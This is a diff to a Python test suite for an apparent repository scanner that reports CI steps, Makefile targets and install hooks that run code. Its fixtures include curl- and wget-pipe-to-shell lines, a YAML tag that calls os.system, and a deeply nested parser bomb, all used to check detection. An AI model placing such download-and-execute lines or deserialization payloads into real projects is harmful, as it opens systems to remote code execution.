@@ -198,12 +198,19 @@ def test_hostile_workflows_are_bounded_and_still_searched(pinned, tw):
     tagged = (
         "jobs:\n  x:\n    steps:\n      - run: !!python/object/apply:os.system ['echo pwned']\n"
     )
+    deep = "jobs: " + "[" * 5000 + "]" * 5000 + "\n"
+    # escapes that decode to lone surrogates, which a regular-expression engine may refuse
+    escaped = 'jobs:\n  x:\n    steps:\n      - run: "curl -s https://x.invalid/\\ud800 | sh"\n'
     repo = pinned(
         {
             ".github/workflows/bomb.yml": bomb,
             ".github/workflows/broken.yml": broken,
             ".github/workflows/big.yml": big,
             ".github/workflows/tagged.yml": tagged,
+            ".github/workflows/deep.yml": deep,
+            ".github/workflows/escaped.yml": escaped,
+            "package.json": '{"scripts": {"postinstall": "\\udc80 make all"}}\n',
+            "Makefile": "all:\n\techo\n",
         }
     )
     started = time.perf_counter()
@@ -231,6 +238,15 @@ def test_hostile_workflows_are_bounded_and_still_searched(pinned, tw):
             "CI step pipes a download into a shell",
             "- run: wget -qO- https://x.invalid/w | sh",
         )
+    ]
+    assert at(data, ".github/workflows/deep.yml") == [
+        (1, "CI configuration, nested too deeply to parse", deep.strip()[:240])
+    ]
+    assert at(data, ".github/workflows/escaped.yml") == [
+        (4, "CI step pipes a download into a shell", escaped.splitlines()[3].strip())
+    ]
+    assert at(data, "Makefile") == [
+        (1, "Makefile target run by install steps: npm install (postinstall script)", "all:")
     ]
     # a tag is never acted on: the value is read as the text it is
     assert at(data, ".github/workflows/tagged.yml") == [
@@ -264,13 +280,15 @@ def test_control_characters_in_a_run_line_are_made_visible(pinned, tw):
 def test_a_makefile_target_names_what_runs_it(pinned, tw):
     repo = pinned(
         {
-            "Makefile": "all: build\nbuild:\n\tcc x.c\ninstall: build\n\tcp x /usr/bin\n"
+            "Makefile": "CC := gcc\nall: build\nbuild:\n\tcc x.c\ninstall:build\n\tcp x /usr/bin\n"
             "lint:\n\truff .\n",
+            "web/Makefile": "bundle:\n\tnpm run b\n",
             "native/Makefile": "ext:\n\tcc -shared y.c\n",
             "tools/justfile": "default:\n  echo hi\nfmt:\n  ruff format\n",
             "docs/Makefile": "html:\n\tsphinx-build . _build\ninstall:\n\techo no\n",
             ".github/workflows/ci.yml": "jobs:\n  t:\n    steps:\n      - run: make lint\n"
-            "      - run: cd tools && just fmt\n",
+            "      - run: cd tools && just fmt\n"
+            "      - run: make bundle\n        working-directory: web\n",
             "package.json": '{\n  "scripts": {\n    "postinstall": "make install",\n'
             '    "build": "make lint"\n  }\n}\n',
             "setup.py": "import subprocess\n"
@@ -282,12 +300,15 @@ def test_a_makefile_target_names_what_runs_it(pinned, tw):
         (i["line"], i["kind"], tuple(i["run_by"])) for i in data["items"] if i["path"] == "Makefile"
     }
     assert root == {
-        (2, "Makefile target run by install steps: npm install (postinstall script) "
+        (3, "Makefile target run by install steps: npm install (postinstall script) "
             "(as a prerequisite of install)", ("package.json:3",)),
-        (4, "Makefile target run by install steps: npm install (postinstall script)",
+        (5, "Makefile target run by install steps: npm install (postinstall script)",
          ("package.json:3",)),
-        (6, "Makefile target run by a CI step", (".github/workflows/ci.yml:4",)),
+        (7, "Makefile target run by a CI step", (".github/workflows/ci.yml:4",)),
     }  # fmt: skip
+    assert [(i["line"], i["run_by"]) for i in data["items"] if i["path"] == "web/Makefile"] == [
+        (1, [".github/workflows/ci.yml:6"])
+    ]
     # `build` (the npm script) is run by hand, so `make lint` there is not a caller
     assert not any("npm pack" in i["kind"] or "build script" in i["kind"] for i in data["items"])
     assert [
